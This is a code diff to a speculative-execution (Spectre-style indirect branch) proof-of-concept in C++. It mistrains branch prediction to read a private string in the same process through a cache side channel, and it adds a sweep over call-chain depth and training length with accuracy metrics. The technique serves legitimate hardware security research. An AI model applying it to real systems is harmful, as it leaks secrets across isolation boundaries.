@@ -11,19 +11,37 @@
 // that leads to type confusion during speculative execution. Leaks
 // architecturally inaccessible data from the process's address space.
 //
+// The leaking call goes through a chain of `depth` further virtual calls,
+// each from its own call site, before the data is read. With --sweep, the
+// demo leaks the string once per combination of chain depth and training
+// length and prints a CSV heatmap of runs-to-converge and accuracy:
+//
+//   Var-btb [depth] [--metrics=FILE]
+//   Var-btb --sweep [--depths=0,1,2,...] [--training=1,8,...] [--max-runs=N]
+//       [--metrics=FILE]
+//
+// Outcomes are collected in a LeakMetrics; --metrics writes them as JSON.
+//
 // PLATFORM NOTES:
 // This program should leak data on pretty much any system where it compiles.
 // We only require an out-of-order CPU that predicts indirect branches.
 
+#include <algorithm>
 #include <array>
 #include <cstring>
+#include <fstream>
+#include <iomanip>
 #include <iostream>
+#include <memory>
+#include <sstream>
+#include <string>
+#include <utility>
 #include <vector>
-#include <map>
-#include <algorithm>
-#include <iomanip>
 
+#include "btb_experiment.h"
 #include "cache_sidechannel.h"
+#include "experiment.h"
+#include "leak_metrics.h"
 #include "instr.h"
 #include "utils.h"
 
@@ -35,96 +53,90 @@
 // offset.
 const char *public_data = "xxxxxxxxxxxxxxxx";
 const char *private_data = "It's a s3kr3t!!!";
-constexpr size_t kAccessorArrayLength = 1024;
+const LeakTarget leak_target = {public_data, private_data};
+// Deepest accessor chain instantiated.
+constexpr size_t kMaxChainDepth = 32;
 
 // Global variable for configurable branch prediction depth
 static size_t g_branch_prediction_depth = 10;
 
-// DataAccessor provides an interface to access bytes from either the public or
-// the private storage.
-class DataAccessor {
+// A link of an accessor chain: forwards GetDataByte to the next accessor. The
+// real and the censoring links have the same layout, so that a link reached
+// by misprediction finds its next accessor where it expects it.
+class ChainedDataAccessor : public DataAccessor {
  public:
-  virtual char GetDataByte(size_t index, bool read_from_private_data) = 0;
-  virtual ~DataAccessor() {};
+  explicit ChainedDataAccessor(DataAccessor *next) : next_(next) {}
+
  protected:
-  // Helper method that picks the pointer that you want to read from.
-  const char *GetDataPtr(bool read_from_private_data) const {
-    // This is the same as:
-    // return read_from_private_data ? private_data : public_data;
-    // It only avoids branching in case it is compiled without optimizations.
-    return public_data + (
-        private_data - public_data) * static_cast<int>(read_from_private_data);
-  }
+  DataAccessor *next_;
 };
 
-// Behaves exactly by the specification, if you ask for public data, it gives
-// you public data, if you ask for private data, you get private data.
-class RealDataAccessor: public DataAccessor {
+// Level `Level` of the real chain. Every level is a separate instantiation,
+// so each level's virtual call is a distinct indirect branch site, trained
+// only by the calls that pass through that level.
+template <size_t Level>
+class RealChainAccessor : public ChainedDataAccessor {
  public:
+  using ChainedDataAccessor::ChainedDataAccessor;
+
   char GetDataByte(size_t index, bool read_from_private_data) override {
-    return GetDataPtr(read_from_private_data)[index];
+    return next_->GetDataByte(index, read_from_private_data);
   }
 };
 
-// It gives you only public data, no matter what you ask for. Useful for cases
-// where you never want to leak the private data.
-class CensoringDataAccessor: public DataAccessor {
+// Level `Level` of the censoring chain. Asks the next level for public data
+// only; the chain ends with a CensoringDataAccessor anyway.
+template <size_t Level>
+class CensoringChainAccessor : public ChainedDataAccessor {
  public:
+  using ChainedDataAccessor::ChainedDataAccessor;
+
   char GetDataByte(size_t index, bool /* read_from_private_data */) override {
-    return public_data[index];
+    return next_->GetDataByte(index, false);
   }
 };
 
-// New classes for variable depth branch prediction
-class DepthChainAccessor : public DataAccessor {
-public:
-  virtual char GetDataByteWithDepth(size_t index, bool read_from_private_data, size_t depth) = 0;
-  
-  char GetDataByte(size_t index, bool read_from_private_data) override {
-    return GetDataByteWithDepth(index, read_from_private_data, g_branch_prediction_depth);
+// A real and a censoring chain of every depth from 0 to kMaxChainDepth. The
+// chain of depth d starts at level d and goes down through all lower levels
+// to a RealDataAccessor or a CensoringDataAccessor, i.e. a call at depth d makes
+// d + 1 indirect calls.
+class AccessorChains {
+ public:
+  AccessorChains() {
+    real_.emplace_back(new RealDataAccessor<leak_target>);
+    censoring_.emplace_back(new CensoringDataAccessor<leak_target>);
+    AddLevels(std::make_index_sequence<kMaxChainDepth>());
   }
-};
 
-class RealDepthAccessor : public DepthChainAccessor {
-public:
-  char GetDataByteWithDepth(size_t index, bool read_from_private_data, size_t depth) override {
-    if (depth == 0) {
-      return GetDataPtr(read_from_private_data)[index];
-    }
-    
-    // Create another level of indirection - this is where the misprediction chain happens
-    return next_accessor_->GetDataByteWithDepth(index, read_from_private_data, depth - 1);
-  }
-  
-  void SetNextAccessor(DepthChainAccessor* next) {
-    next_accessor_ = next;
+  DataAccessor *real(size_t depth) const { return real_[depth].get(); }
+  DataAccessor *censoring(size_t depth) const {
+    return censoring_[depth].get();
   }
-  
-private:
-  DepthChainAccessor* next_accessor_ = this; // Default to self for base case
-};
 
-class CensoringDepthAccessor : public DepthChainAccessor {
-public:
-  char GetDataByteWithDepth(size_t index, bool read_from_private_data, size_t depth) override {
-    if (depth == 0) {
-      return public_data[index]; // Always return public data
-    }
-    
-    // Continue chain but force public access
-    return next_accessor_->GetDataByteWithDepth(index, false, depth - 1);
+ private:
+  template <size_t... Levels>
+  void AddLevels(std::index_sequence<Levels...>) {
+    (AddLevel<Levels + 1>(), ...);
   }
-  
-  void SetNextAccessor(DepthChainAccessor* next) {
-    next_accessor_ = next;
+
+  template <size_t Level>
+  void AddLevel() {
+    real_.emplace_back(new RealChainAccessor<Level>(real_.back().get()));
+    censoring_.emplace_back(
+        new CensoringChainAccessor<Level>(censoring_.back().get()));
   }
-  
-private:
-  DepthChainAccessor* next_accessor_ = this; // Default to self for base case
+
+  std::vector<std::unique_ptr<DataAccessor>> real_;
+  std::vector<std::unique_ptr<DataAccessor>> censoring_;
 };
 
 // Utility functions for managing branch prediction depth
 void SetBranchPredictionDepth(size_t depth) {
+  if (depth > kMaxChainDepth) {
+    std::cerr << "Depth " << depth << " exceeds the deepest chain, "
+              << kMaxChainDepth << "." << std::endl;
+    exit(EXIT_FAILURE);
+  }
   g_branch_prediction_depth = depth;
   std::cout << "Branch prediction depth set to: " << depth << std::endl;
 }
@@ -133,252 +145,238 @@ size_t GetBranchPredictionDepth() {
   return g_branch_prediction_depth;
 }
 
-// Structure to store prediction results for accuracy computation
-struct PredictionResult {
-  char predicted_char;
-  char actual_char;
-  size_t position;
-  size_t depth_used;
-  bool is_correct;
-  
-  PredictionResult(char pred, char actual, size_t pos, size_t depth) 
-    : predicted_char(pred), actual_char(actual), position(pos), depth_used(depth) {
-    is_correct = (pred == actual);
+// Chain policy of BtbExperiment calling the accessor chains of one depth.
+class DepthChain {
+ public:
+  using Accessor = DataAccessor;
+
+  DepthChain(const AccessorChains &chains, size_t depth)
+      : chains_(&chains), depth_(depth) {}
+
+  Accessor *real() const { return chains_->real(depth_); }
+  Accessor *censoring() const { return chains_->censoring(depth_); }
+  char Call(Accessor *accessor, size_t index,
+            bool read_from_private_data) const {
+    // Speculatively, the misprediction of the first call is followed through
+    // the real chain's call sites at every level down to the read of the
+    // private data.
+    return accessor->GetDataByte(index, read_from_private_data);
   }
+  // Only the first accessor of the chain is flushed. The links are at least
+  // as big as the leaf accessors.
+  static size_t object_size() { return sizeof(ChainedDataAccessor); }
+  static const LeakTarget &target() { return leak_target; }
+
+ private:
+  const AccessorChains *chains_;
+  size_t depth_;
 };
 
-// Global storage for prediction results
-static std::vector<PredictionResult> g_prediction_results;
-
-// Leaks the byte that is physically located at private_data[offset], without
-// ever loading it. In the abstract machine, and in the code executed by the
-// CPU, this function does not load any memory except for what is in the bounds
-// of `public_data`, and local auxiliary data.
-//
-// Instead, the leak is performed by indirect branch prediction during
-// speculative execution, mistraining the predictor to jump to the address of
-// GetDataByte implemented by RealDataAccessor that is unsafe for
-// CensoringDataAccessor.
-static char LeakByte(size_t offset) {
-  CacheSideChannel sidechannel;
-  const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
-  auto array_of_pointers =
-      std::unique_ptr<std::array<DataAccessor *, kAccessorArrayLength>>(
-          new std::array<DataAccessor *, kAccessorArrayLength>());
-
-  // RealDataAccessor, leaks both private and public data according to the
-  // parameter it is provided with.
-  auto real_data_accessor = std::unique_ptr<DataAccessor>(
-      new RealDataAccessor);
-
-  // CensoringDataAccessor, architecturally leaks only public data and ignores
-  // the read_from_private_data parameter.
-  auto censoring_data_accessor = std::unique_ptr<DataAccessor>(
-      new CensoringDataAccessor);
-
-  for (int run = 0;; ++run) {
-    sidechannel.FlushOracle();
-
-    // Before each run all pointers are reset to point to the
-    // real_data_accessor.
-    for (auto &pointer : *array_of_pointers) {
-      pointer = real_data_accessor.get();
-    }
-
-    // Only one of the pointers is then changed so that it points to the
-    // CensoringDataAccessor. Its index is local_pointer_index.
-    size_t local_pointer_index = run % kAccessorArrayLength;
-    (*array_of_pointers)[local_pointer_index] = censoring_data_accessor.get();
-
-    for (size_t i = 0; i <= local_pointer_index; ++i) {
-      DataAccessor *accessor = (*array_of_pointers)[i];
-      // On the local_pointer_index we have the censoring data accessor for
-      // which the read_private_data can be true, because that accessor will
-      // ignore that argument and use the public data anyway.
-      bool read_private_data = (i == local_pointer_index);
-
-      // When i == local_pointer_index, we get size of the
-      // CensoringDataAccessor, otherwise of the RealDataAccessor.
-      size_t object_size_in_bytes = sizeof(
-          RealDataAccessor) + (sizeof(CensoringDataAccessor) - sizeof(
-              RealDataAccessor)) * (i == local_pointer_index);
-
-      // We make sure to flush whole accessor object in case it is
-      // hypothetically on multiple cache-lines.
-      const char *accessor_bytes = reinterpret_cast<const char*>(accessor);
-      FlushFromDataCache(accessor_bytes, accessor_bytes + object_size_in_bytes);
-
-      // Speculative fetch at the offset. Architecturally it fetches
-      // always from the public_data, though speculatively it fetches the
-      // private_data when i is at the local_pointer_index.
-      ForceRead(oracle.data() + static_cast<size_t>(
-          accessor->GetDataByte(offset, read_private_data)));
-    }
-
-    std::pair<bool, char> result =
-        sidechannel.RecomputeScores(public_data[offset]);
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
-    }
+// Leaks the byte that is physically located at private_data[offset] through a
+// single mispredicted call, see BtbExperiment.
+static char LeakByte(CacheSideChannel &sidechannel, size_t offset) {
+  BtbExperiment<DirectChain<leak_target>> experiment;
+  ExperimentOutcome outcome =
+      experiment.LeakByte(sidechannel, offset, ExperimentBudget());
+  if (!outcome.converged) {
+    std::cerr << "Does not converge " << outcome.value << std::endl;
+    exit(EXIT_FAILURE);
   }
+  return outcome.value;
 }
 
-// NEW FUNCTION: Variable depth leak function with prediction tracking
-static char LeakByteVariableDepth(size_t offset, size_t depth) {
-  CacheSideChannel sidechannel;
-  const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
-  auto array_of_pointers =
-      std::unique_ptr<std::array<DepthChainAccessor *, kAccessorArrayLength>>(
-          new std::array<DepthChainAccessor *, kAccessorArrayLength>());
-
-  // Create depth-aware accessors
-  auto real_depth_accessor = std::unique_ptr<RealDepthAccessor>(
-      new RealDepthAccessor);
-  auto censoring_depth_accessor = std::unique_ptr<CensoringDepthAccessor>(
-      new CensoringDepthAccessor);
-  
-  // Set up the chain - each accessor points to itself for recursive calls
-  // This creates the chain of indirect calls that will be mispredicted
-  real_depth_accessor->SetNextAccessor(real_depth_accessor.get());
-  censoring_depth_accessor->SetNextAccessor(censoring_depth_accessor.get());
-
-  for (int run = 0;; ++run) {
-    sidechannel.FlushOracle();
+// Leaks private_data[offset] like LeakByte, but through the accessor chains
+// of `depth`. Each run calls the real chain `training_length` times before
+// the censoring one; 0 cycles the training length like LeakByte does.
+static ExperimentOutcome LeakByteThroughChain(
+    CacheSideChannel &sidechannel, const AccessorChains &chains,
+    size_t offset, size_t depth, size_t training_length,
+    const ExperimentBudget &budget) {
+  DepthChain chain(chains, depth);
+  if (training_length == 0) {
+    BtbExperiment<DepthChain> experiment(chain);
+    return experiment.LeakByte(sidechannel, offset, budget);
+  }
+  BtbExperiment<DepthChain, FixedTraining> experiment(
+      chain, FixedTraining(training_length));
+  return experiment.LeakByte(sidechannel, offset, budget);
+}
 
-    // Train with real accessors - this trains the branch predictor
-    for (auto &pointer : *array_of_pointers) {
-      pointer = real_depth_accessor.get();
-    }
+// Variable depth leak function with prediction tracking
+static char LeakByteVariableDepth(CacheSideChannel &sidechannel,
+                                  const AccessorChains &chains,
+                                  LeakMetrics::Shard &metrics, size_t offset,
+                                  size_t depth) {
+  ExperimentOutcome outcome = LeakByteThroughChain(
+      sidechannel, chains, offset, depth, 0, ExperimentBudget());
+  if (!outcome.converged) {
+    std::cerr << "Does not converge at depth " << depth << std::endl;
+    exit(EXIT_FAILURE);
+  }
+  metrics.Record({depth, offset, private_data[offset], outcome.value, true,
+                  outcome.runs, outcome.elapsed_cycles,
+                  sidechannel.confidence()});
+  return outcome.value;
+}
 
-    // Replace one with censoring accessor - this will cause misprediction
-    size_t local_pointer_index = run % kAccessorArrayLength;
-    (*array_of_pointers)[local_pointer_index] = censoring_depth_accessor.get();
-
-    for (size_t i = 0; i <= local_pointer_index; ++i) {
-      DepthChainAccessor *accessor = (*array_of_pointers)[i];
-      bool read_private_data = (i == local_pointer_index);
-
-      // Flush accessor from cache
-      size_t object_size = (i == local_pointer_index) ? 
-          sizeof(CensoringDepthAccessor) : sizeof(RealDepthAccessor);
-      const char *accessor_bytes = reinterpret_cast<const char*>(accessor);
-      FlushFromDataCache(accessor_bytes, accessor_bytes + object_size);
-
-      // This is where the variable depth magic happens
-      // Each call to GetDataByteWithDepth creates 'depth' number of 
-      // indirect branch predictions that can be mispredicted
-      ForceRead(oracle.data() + static_cast<size_t>(
-          accessor->GetDataByteWithDepth(offset, read_private_data, depth)));
+// Leaks the whole string for every pair of depth and training length and
+// prints one CSV row per pair: how many bytes converged to the right value,
+// with the 95% Wilson interval of that accuracy, and the median
+// runs-to-converge (the upper bound of its power-of-two bucket). All outcomes
+// are also recorded in `metrics` under their depth.
+static void SweepDepthsAndTraining(CacheSideChannel &sidechannel,
+                                   const AccessorChains &chains,
+                                   LeakMetrics::Shard &metrics,
+                                   const std::vector<size_t> &depths,
+                                   const std::vector<size_t> &training_lengths,
+                                   int max_runs) {
+  ExperimentBudget budget;
+  budget.max_runs = max_runs;
+  std::cout << "depth,training_length,bytes,correct,accuracy,"
+            << "accuracy_ci_low,accuracy_ci_high,runs_median" << std::endl;
+  for (size_t depth : depths) {
+    for (size_t training_length : training_lengths) {
+      LeakCounters cell;
+      for (size_t i = 0; i < strlen(private_data); ++i) {
+        ExperimentOutcome outcome = LeakByteThroughChain(
+            sidechannel, chains, i, depth, training_length, budget);
+        LeakSample sample = {depth, i, private_data[i], outcome.value,
+                             outcome.converged, outcome.runs,
+                             outcome.elapsed_cycles,
+                             sidechannel.confidence()};
+        cell.Add(sample);
+        metrics.Record(sample);
+      }
+      auto interval = cell.accuracy_interval();
+      std::cout << depth << "," << training_length << "," << cell.trials
+                << "," << cell.correct << "," << std::fixed
+                << std::setprecision(3) << cell.accuracy() << ","
+                << interval.first << "," << interval.second << ","
+                << cell.runs.Quantile(0.5) << std::endl;
     }
+  }
+}
 
-    std::pair<bool, char> result =
-        sidechannel.RecomputeScores(public_data[offset]);
-    if (result.first) {
-      // Store the prediction result for accuracy tracking
-      char predicted = result.second;
-      char actual = private_data[offset];
-      g_prediction_results.emplace_back(predicted, actual, offset, depth);
-      return predicted;
-    }
+// Writes `metrics` as JSON to `path` unless it is empty.
+static void WriteMetrics(const LeakMetrics &metrics, const std::string &path) {
+  if (path.empty()) {
+    return;
+  }
+  std::ofstream out(path, std::ios::trunc);
+  out << metrics.Json("depth") << std::endl;
+  if (!out) {
+    std::cerr << "Writing " << path << " failed." << std::endl;
+    exit(EXIT_FAILURE);
+  }
+}
 
-    if (run > 100000) {
-      std::cerr << "Does not converge at depth " << depth << std::endl;
-      // Store failed prediction
-      g_prediction_results.emplace_back('?', private_data[offset], offset, depth);
+// Parses a comma-separated list of numbers no greater than `max`.
+static std::vector<size_t> ParseList(const std::string &list, size_t max) {
+  std::vector<size_t> values;
+  std::istringstream in(list);
+  std::string item;
+  while (std::getline(in, item, ',')) {
+    size_t value = std::stoull(item);
+    if (value > max) {
+      std::cerr << "Value " << value << " exceeds " << max << "." << std::endl;
       exit(EXIT_FAILURE);
     }
+    values.push_back(value);
   }
+  return values;
 }
 
 // Function to compute and display prediction accuracy
-void ComputePredictionAccuracy() {
-  if (g_prediction_results.empty()) {
+void ComputePredictionAccuracy(const LeakMetrics &metrics) {
+  const LeakCounters &overall = metrics.overall();
+  if (overall.trials == 0) {
     std::cout << "\nNo prediction results to analyze.\n";
     return;
   }
 
-  size_t total_predictions = g_prediction_results.size();
-  size_t correct_predictions = 0;
-  size_t private_data_length = strlen(private_data);
-  
   std::cout << "\n" << std::string(60, '=') << std::endl;
   std::cout << "PREDICTION ACCURACY ANALYSIS" << std::endl;
   std::cout << std::string(60, '=') << std::endl;
   
   // Per-character analysis
   std::cout << "\nPer-Character Results:" << std::endl;
-  std::cout << "Pos | Expected | Predicted | Depth | Status" << std::endl;
-  std::cout << std::string(45, '-') << std::endl;
+  std::cout << "Pos | Expected | Predicted | Correct | Confidence | Status"
+            << std::endl;
+  std::cout << std::string(58, '-') << std::endl;
   
-  for (const auto& result : g_prediction_results) {
-    std::cout << std::setw(3) << result.position << " | "
-              << std::setw(8) << "'" << result.actual_char << "'" << " | "
-              << std::setw(9) << "'" << result.predicted_char << "'" << " | "
-              << std::setw(5) << result.depth_used << " | "
-              << (result.is_correct ? "CORRECT" : "WRONG") << std::endl;
-    
-    if (result.is_correct) {
-      correct_predictions++;
+  for (size_t position = 0; position < LeakMetrics::kMaxPositions;
+       ++position) {
+    const LeakCounters &result = metrics.position(position);
+    if (result.trials == 0) {
+      continue;
     }
+    bool is_correct = result.last_value == result.expected;
+    std::cout << std::setw(3) << position << " | "
+              << std::setw(8) << "'" << result.expected << "'" << " | "
+              << std::setw(9) << "'" << result.last_value << "'" << " | "
+              << std::setw(3) << result.correct << "/" << std::setw(3)
+              << result.trials << " | "
+              << std::setw(10) << std::fixed << std::setprecision(6)
+              << result.confidence_sum / result.trials << " | "
+              << (is_correct ? "CORRECT" : "WRONG") << std::endl;
   }
   
   // Overall accuracy
-  double accuracy_percentage = (double)correct_predictions / total_predictions * 100.0;
+  double accuracy_percentage = overall.accuracy() * 100.0;
+  auto interval = overall.accuracy_interval();
   std::cout << "\n" << std::string(45, '-') << std::endl;
-  std::cout << "OVERALL ACCURACY: " << correct_predictions << "/" << total_predictions 
-            << " (" << std::fixed << std::setprecision(1) << accuracy_percentage << "%)" << std::endl;
+  std::cout << "OVERALL ACCURACY: " << overall.correct << "/" << overall.trials
+            << " (" << std::fixed << std::setprecision(1) << accuracy_percentage
+            << "%, 95% CI " << interval.first * 100.0 << "-"
+            << interval.second * 100.0 << "%)" << std::endl;
   
   // Analysis by depth
-  std::map<size_t, std::pair<size_t, size_t>> depth_stats; // depth -> (correct, total)
-  for (const auto& result : g_prediction_results) {
-    depth_stats[result.depth_used].second++; // total count
-    if (result.is_correct) {
-      depth_stats[result.depth_used].first++; // correct count
-    }
+  size_t depths = 0;
+  for (size_t depth = 0; depth < LeakMetrics::kMaxKeys; ++depth) {
+    depths += metrics.key(depth).trials > 0;
   }
-  
-  if (depth_stats.size() > 1) {
+  if (depths > 1) {
     std::cout << "\nAccuracy by Depth:" << std::endl;
-    std::cout << "Depth | Correct/Total | Accuracy" << std::endl;
-    std::cout << std::string(35, '-') << std::endl;
+    std::cout << "Depth | Correct/Total | Accuracy | 95% CI" << std::endl;
+    std::cout << std::string(45, '-') << std::endl;
     
-    for (const auto& [depth, stats] : depth_stats) {
-      double depth_accuracy = (double)stats.first / stats.second * 100.0;
+    for (size_t depth = 0; depth < LeakMetrics::kMaxKeys; ++depth) {
+      const LeakCounters &stats = metrics.key(depth);
+      if (stats.trials == 0) {
+        continue;
+      }
+      auto depth_interval = stats.accuracy_interval();
       std::cout << std::setw(5) << depth << " | "
-                << std::setw(6) << stats.first << "/" << std::setw(5) << stats.second << " | "
-                << std::fixed << std::setprecision(1) << depth_accuracy << "%" << std::endl;
+                << std::setw(6) << stats.correct << "/" << std::setw(5)
+                << stats.trials << " | " << std::fixed << std::setprecision(1)
+                << stats.accuracy() * 100.0 << "% | "
+                << depth_interval.first * 100.0 << "-"
+                << depth_interval.second * 100.0 << "%" << std::endl;
     }
   }
   
-  // Character-by-character comparison
+  // Character-by-character comparison, from the last prediction at each
+  // position.
   std::cout << "\nString Comparison:" << std::endl;
   std::cout << "Expected: \"" << private_data << "\"" << std::endl;
   std::cout << "Predicted: \"";
-  
-  // Sort results by position to reconstruct the string
-  std::vector<PredictionResult> sorted_results = g_prediction_results;
-  std::sort(sorted_results.begin(), sorted_results.end(), 
-            [](const PredictionResult& a, const PredictionResult& b) {
-              return a.position < b.position;
-            });
-  
-  for (const auto& result : sorted_results) {
-    std::cout << result.predicted_char;
+  for (size_t position = 0; position < LeakMetrics::kMaxPositions;
+       ++position) {
+    if (metrics.position(position).trials > 0) {
+      std::cout << metrics.position(position).last_value;
+    }
   }
   std::cout << "\"" << std::endl;
   
   // Highlight differences
   std::cout << "Differences: ";
   bool has_differences = false;
-  for (const auto& result : sorted_results) {
-    if (!result.is_correct) {
-      std::cout << "[Pos " << result.position << ": '" 
-                << result.actual_char << "' vs '" << result.predicted_char << "'] ";
+  for (size_t position = 0; position < LeakMetrics::kMaxPositions;
+       ++position) {
+    const LeakCounters &result = metrics.position(position);
+    if (result.trials > 0 && result.last_value != result.expected) {
+      std::cout << "[Pos " << position << ": '" 
+                << result.expected << "' vs '" << result.last_value << "'] ";
       has_differences = true;
     }
   }
@@ -405,10 +403,47 @@ void ComputePredictionAccuracy() {
 }
 
 int main(int argc, char* argv[]) {
+  // One channel for all bytes; LeakByte* reset its scores before each byte.
+  CacheSideChannel sidechannel;
+  AccessorChains chains;
+  LeakMetrics metrics;
+  std::string metrics_path;
+
+  if (argc > 1 && std::string(argv[1]) == "--sweep") {
+    std::vector<size_t> depths = {0, 1, 2, 4, 8, 16, 32};
+    std::vector<size_t> training_lengths = {1, 8, 64, 512};
+    int max_runs = 2000;
+    for (int i = 2; i < argc; ++i) {
+      std::string argument = argv[i];
+      if (argument.compare(0, 9, "--depths=") == 0) {
+        depths = ParseList(argument.substr(9), kMaxChainDepth);
+      } else if (argument.compare(0, 11, "--training=") == 0) {
+        training_lengths =
+            ParseList(argument.substr(11), kAccessorArrayLength - 1);
+      } else if (argument.compare(0, 11, "--max-runs=") == 0) {
+        max_runs = std::stoi(argument.substr(11));
+      } else if (argument.compare(0, 10, "--metrics=") == 0) {
+        metrics_path = argument.substr(10);
+      } else {
+        std::cerr << "Unknown argument " << argument << std::endl;
+        return EXIT_FAILURE;
+      }
+    }
+    SweepDepthsAndTraining(sidechannel, chains, metrics.shard(0), depths,
+                           training_lengths, max_runs);
+    metrics.Merge();
+    WriteMetrics(metrics, metrics_path);
+    return 0;
+  }
+
   // Allow depth to be set via command line argument
-  if (argc > 1) {
-    size_t new_depth = std::stoull(argv[1]);
-    SetBranchPredictionDepth(new_depth);
+  for (int i = 1; i < argc; ++i) {
+    std::string argument = argv[i];
+    if (argument.compare(0, 10, "--metrics=") == 0) {
+      metrics_path = argument.substr(10);
+    } else {
+      SetBranchPredictionDepth(std::stoull(argument));
+    }
   }
   
   std::cout << "Using branch prediction depth: " << GetBranchPredictionDepth() << std::endl;
@@ -416,53 +451,40 @@ int main(int argc, char* argv[]) {
   std::cout << "Leaking the string: ";
   std::cout.flush();
   
-  // Clear any previous prediction results
-  g_prediction_results.clear();
-  
   for (size_t i = 0; i < strlen(private_data); ++i) {
     // Use the new variable depth function instead of the original LeakByte
-    std::cout << LeakByteVariableDepth(i, g_branch_prediction_depth);
+    std::cout << LeakByteVariableDepth(sidechannel, chains, metrics.shard(0),
+                                       i, g_branch_prediction_depth);
     std::cout.flush();
   }
   std::cout << "\nDone!\n";
   
   // Compute and display prediction accuracy
-  ComputePredictionAccuracy();
+  metrics.Merge();
+  ComputePredictionAccuracy(metrics);
+  WriteMetrics(metrics, metrics_path);
   
   // Optional: Demonstrate different depths on the first few characters
   std::cout << "\nTesting first 3 characters with different depths:\n";
   
-  // Save current results
-  std::vector<PredictionResult> main_results = g_prediction_results;
-  
   for (size_t test_depth : {1, 5, 15, 25}) {
-    g_prediction_results.clear(); // Clear for depth test
+    // Collected apart from the main results.
+    LeakMetrics test_metrics;
     std::cout << "\nDepth " << test_depth << ": ";
     for (size_t i = 0; i < 3 && i < strlen(private_data); ++i) {
-      std::cout << LeakByteVariableDepth(i, test_depth);
-    }
-    std::cout << " (Accuracy: ";
-    
-    // Quick accuracy calculation for this depth
-    size_t correct = 0;
-    for (const auto& result : g_prediction_results) {
-      if (result.is_correct) correct++;
-    }
-    if (!g_prediction_results.empty()) {
-      double acc = (double)correct / g_prediction_results.size() * 100.0;
-      std::cout << std::fixed << std::setprecision(0) << acc << "%)";
-    } else {
-      std::cout << "N/A)";
+      std::cout << LeakByteVariableDepth(sidechannel, chains,
+                                         test_metrics.shard(0), i, test_depth);
     }
+    test_metrics.Merge();
+    std::cout << " (Accuracy: " << std::fixed << std::setprecision(0)
+              << test_metrics.key(test_depth).accuracy() * 100.0 << "%)";
   }
   std::cout << std::endl;
   
-  // Restore main results for final analysis
-  g_prediction_results = main_results;
-  
   // Optional: Test original function for comparison if depth allows
   if (GetBranchPredictionDepth() > 1) {
-    std::cout << "\nOriginal function (depth 1) first char: " << LeakByte(0) << std::endl;
+    std::cout << "\nOriginal function (depth 1) first char: "
+              << LeakByte(sidechannel, 0) << std::endl;
   }
   
   return 0;